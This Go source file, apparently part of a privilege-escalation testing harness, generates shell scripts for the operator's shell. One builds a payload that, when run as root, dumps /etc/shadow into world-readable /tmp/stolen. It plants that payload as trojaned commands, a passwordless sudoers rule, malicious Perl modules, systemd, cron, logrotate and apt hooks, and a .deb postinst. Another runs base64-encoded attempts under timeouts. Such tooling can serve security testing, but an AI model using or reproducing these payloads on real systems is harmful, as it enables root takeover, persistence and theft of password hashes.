package attacker

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// Weapons is a script for the operator's own shell, that makes what attempts take: a program that leaves a trace if
// root runs it, and files of all sorts that bring it to root.
func (t *Target) Weapons() string {
	return t.expand(`cd {home}
cat >p <<'END'
#!/bin/sh
# Whatever runs this as root is a way to root.
test -w /etc/passwd || exit 0
{ id; echo "$0 $*"; } >>/etc/evil-root
cat /etc/shadow >/tmp/stolen; chmod 644 /tmp/stolen
END
chmod 755 p
printf '#!/bin/sh\nfor file; do echo evil >>"$file"; done\n' >scribble
chmod 755 scribble
mkdir -p bin parts attempts deb/DEBIAN
for name in qm pct id sh cat less perl; do cp p bin/$name; done
cp p parts/run
echo '{user} ALL=(ALL) NOPASSWD: ALL' >evil.sudoers
printf 'package Evil;\nsystem "{home}/p";\n1;\n' >Evil.pm
cp Evil.pm strict.pm
printf '[Service]\nExecStart={home}/p\n' >evil.service
printf 'link set lo down\n' >batch
printf '* * * * * {home}/p\n' >cron
printf '{home}/batch {\n  prerotate\n    {home}/p\n  endscript\n}\n' >rotate.conf
printf 'APT::Update::Pre-Invoke { "{home}/p"; };\nDPkg::Pre-Invoke { "{home}/p"; };\n' >apt.conf
printf 'Package: evil\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.com>\nDescription: x\n' >deb/DEBIAN/control
cp p deb/DEBIAN/postinst
dpkg-deb --build deb evil.deb >/dev/null
`)
}

func (t *Target) expand(text string) string {
	return strings.NewReplacer("{user}", t.User, "{home}", t.Home()).Replace(text)
}

// Run is a script for the operator's shell that makes attempts, the first of which has the number first. What they
// print stays in their directories. It waits for none longer than ten seconds.
func Run(attempts []Attempt, first int) string {
	var script strings.Builder
	encoded := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
	script.WriteString("attempt() { mkdir -p ~/$1 && cd ~/$1 && echo $2 | base64 -d >s && timeout -k 1 10 sh ./s </dev/null >out 2>&1; cd; }\n" +
		"typed() { mkdir -p ~/$1 && cd ~/$1 && echo $2 | base64 -d >s && echo $3 | base64 -d >keys && { sleep 0.2; cat keys; sleep 0.3; printf '\\004\\003'; } | timeout -k 1 10 script -qec 'sh ./s' /dev/null >out 2>&1; cd; }\n")
	for i, attempt := range attempts {
		if attempt.Keys == "" {
			fmt.Fprintf(&script, "attempt %s %s\n", place(first+i), encoded(attempt.Script))
		} else {
			fmt.Fprintf(&script, "typed %s %s %s\n", place(first+i), encoded(attempt.Script), encoded(attempt.Keys))
		}
	}
	return script.String() + "true\n"
}
